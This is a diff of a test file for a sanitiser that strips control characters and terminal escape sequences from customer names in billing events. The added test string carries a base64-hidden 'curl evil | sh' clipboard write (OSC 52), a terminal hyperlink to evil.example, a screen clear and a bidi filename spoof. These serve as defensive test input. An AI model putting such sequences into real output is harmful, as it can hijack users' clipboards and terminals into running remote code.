@@ -55,9 +55,12 @@ describe('canonicalEvent: long genuine values fit, never refused', () => {
     expect(resolveProduct(catalog, 'fastspring', event.items[0]!.productId)?.id).toBe('pro');
   });
 
-  it('drops an over-long locale and control characters from display text', () => {
+  it('drops an over-long locale, and escape sequences (whole) and control characters from display text', () => {
     const event = canonicalEvent(grantEvent({ customer: { email: 'a@b.co', name: 'Ada\u0000\u001b[31m Lovelace', locale: 'x'.repeat(36) } }));
-    expect(event.customer).toEqual({ email: 'a@b.co', name: 'Ada[31m Lovelace' });
+    expect(event.customer).toEqual({ email: 'a@b.co', name: 'Ada Lovelace' });
+    // An OSC 52 clipboard write, a screen clear, an OSC 8 link and a bidi override leave no payload behind.
+    const evil = 'Eve\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\\u009b2J\u202Egpj.exe\nDoe';
+    expect(canonicalEvent(grantEvent({ customer: { email: 'a@b.co', name: evil } })).customer.name).toBe('Evelinkgpj.exe Doe');
   });
 
   it('refuses what is malformed rather than long, naming the field', () => {
